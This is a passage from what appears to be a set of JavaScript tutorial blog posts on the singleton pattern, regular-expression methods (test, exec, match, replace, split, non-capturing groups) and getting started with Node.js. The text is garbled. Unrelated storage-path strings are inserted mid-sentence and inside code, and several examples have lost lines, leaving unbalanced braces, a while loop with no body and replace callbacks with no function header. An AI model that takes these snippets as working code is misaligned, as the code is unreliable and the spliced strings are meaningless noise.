        this.path =path;
        window.global_logger = this;
    return window.global_logger;

l1 = new Logger('/home');

l2 = new Logger('/dev');

console.log(l1 === l2);

Above solution works. However this solution relies on creating a global variable. To the extent possible it is best to avoid polluting global namespace.

Single solution without polluting global namespace

var Logger = function() {

    var _instance;

    return function(path) {

        if (_instance) {
            console.log('an instance is already present');
        } else {
            this.path = path;
            _instance = this;

        return _instance;
} (); //note that it is self invoking function

var l1 = new Logger('/root');

var l2 = new Logger('/dev');

console.log(l1 === l2);

This solution does not pollute global namespace.

Regular expression in JavaScriptRegular expressions is a powerful tool in any language. Here I am discussing how to use regularexpression in JavaScript.

Defining regular expressions

In JavaScript regular expression can be defined two ways.

var regex = /hello/ig; // i is for ignore case. g is for global.
var regex = new RegExp("hello", "ig");

If I am defining regular expression using RegExp then I need to add escape character in certain cases.

var regex = /hello_\w*/ig;
var regex = new RegExp("hello_\\w*", "ig"); //notice the extra backslash before \w

When I am defining regular expression using RegExp then \w needs to be escaped otherwise it would be taken literally.

test method

test method is to check if a match is found or not. This method returns true or false.var regex = /hello/ig;
var text = 'hello_you';
var bool = regex.test(text);

exec method

exec method finds if a match is found or not. It returns an array if a match is found. Otherwise it returns null.

var regex = /hello_\w*/ig;
var text = 'hello_you';
var matches = regex.exec(text);
console.log(matches); //=> hello_you

match method

match method acts exactly like exec method if no g parameter is passed. When global flag is turned on the match returns an Array containing all the matches.Note that in exec the syntax was regex.exec(text) while in match method the syntax is text.match(regex) .

var regex = /hello_\w*/i;
var text = 'hello_you and hello_me';
var matches = text.match(regex);
console.log(matches); //=> ['hello_you']

Now with global flag turned on.

var regex = /hello_\w*/ig;
var text = 'hello_you and hello_me';
var matches = text.match(regex);
console.log(matches); //=> ['hello_you', 'hello_me']

Getting multiple matchesOnce again both exec and match method without g option do not get all the matching values from a string. If you want all the matching values then you need to iterate through the text. Here is an example.

Get both the bug numbers in the following case.

var matches = [];
var regex = /#(\d+)/ig;
var text = 'I fixed bugs #1234 and #5678';
while (match = regex.exec(text)) {
console.log(matches); // ['1234', '5678']

Note that in the above case global flag g. Without that above code will run forever.

var matches = [];
var regex = /#(\d+)/ig;
var text = 'I fixed bugs #1234 and #5678';
matches = text.match(regex);

In the above case match is used instead of regex . However since match with global flag option brings all the matches there was no need to iterate in a loop.

match attributes

When a match is made then an array is returned. That array has two methods.• index: This tells where in the string match was done
  • input: the original string
var regex = /#(\d+)/i;
var text = 'I fixed bugs #1234 and #5678';
var match = text.match(regex);
console.log(match.index); //13
console.log(match.input); //I fixedbugs #1234 and #5678


replace method takes both regexp and string as argument.

var text = 'I fixed bugs #1234 and #5678';
var output = text.replace('bugs', 'defects');
console.log(output); //I fixed defects #1234 and #5678

Example of using a function to replace text.

var text = 'I fixed bugs #1234 and #5678';
var output = text.replace(/\d+/g, function(match){ returnmatch * 2});
console.log(output); //I fixed bugs #2468 and #11356

Another case.

// requirement is to change all like within <b> </b> to love.
var text = ' I like JavaScript. <b> I like JavaScript</b> ';
var output = text.replace(/<b>.*?<\/b>/g, function(match) { return match.replace(/like/g, "love") } );
console.log(output); //I like JavaScript. <b> I love JavaScript</b>

Example of using special variables.

$& -    the matched substring.
$` -  the portion of the string that precedes the matched substring.
$' -  the portion of the string that follows the matched substring.
$n -  $0, $1, $2 etc where number means the captured group.
var regex = /(\w+)\s(\w+)/;
var text = "John Smith";var output = text.replace(regex, "$2,$1");
console.log(output);//Smith, John
var regex = /JavaScript/;
var text = "I think JavaScript is awesome";
var output = text.replace(regex, "before:$` after:$'full:$&");
console.log(output);//I think before:I think after: is awesome full:JavaScript is awesome

Replace method also accepts captured groups as parameters in the function. Here is an example;

var regex  = /#(\d*)(.*)@(\w*)/;
var text = 'I fixed bug #1234 and twitted to @javascript';
  log(_); //#1234 and twitted to @javascript
  log(a); //1234
  log(b); //  and twitted to
  log(c); // javascript

As you can see the very first argument to function is the fully matched text. Other captured groups are subsequent arguments. This strategy can be applied recursively.

var bugs = [];
var regex = /#(\d+)/g;
var text = 'I fixed bugs #1234 and #5678';
text.replace(regex, function(_,f){
log(bugs); //["1234", "5678"]

Split method

split method can take both string or a regular expression.An example of split using a string.

var text = "Jan,Feb,Mar,Apr,May,Jun,Jul,Aug,Sep,Oct,Nov,Dec";
var output = text.split(',');
log(output); // ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]

An example of split using regular expression.

var text = "Harry Trump ;Fred Barney; Helen Rigby ; Bill Abel ;Chris Hand ";
var regex = /\s*;\s*/;
var output = text.split(regex);
log(output); // ["Harry Trump", "Fred Barney", "Helen Rigby", "Bill Abel", "Chris Hand "]

Non capturing Group

The requirement given to me states that I should strictly look for word java, ruby or rails within word boundary. This can be done like this.

var text = 'java';
var regex = /\bjava\b|\bruby\b|\brails\b/;

Above code works. However notice the code duplication. This can be refactored to the one given below.

var text = 'rails';
var regex = /\b(java|ruby|rails)\b/;

Above code works and there is no code duplication. However in this case I am asking regular expression engine to create a captured group which I’ll not be using.Regex engines need to do extra work to keep track of captured groups. It would be nice if I could say to regex engine do not capture this into a group because I will not be using it.

?: is a special symbol that tells regex engine to create non capturing group. Above code can be refactored into the one given below.

var text = 'rails';
var regex = /\b(?:java|ruby|rails)\b/;
text = '#container a.filter(.top).filter(.bottom).filter(.middle)';
matches = text.match(/^[^.]*|\.[^.]*(?=\))/g);

Get started with nodejs in steps

nodejs is awesome. To get people started with nodejs, node-chat has been developed. Source code for node-chat app is here .

When I looked at source code for the first time, it looked intimidating. In order to get started with nodejs, I have developed a small portion of the node-chat application in 13 incremental steps.

The first step is as simple as 15 lines of code .

If you want to follow along then go throughREADME and you can get a feel of nodejs very quickly. How to checkout each step andother information is mentioned in README.

Enjoy nodejs.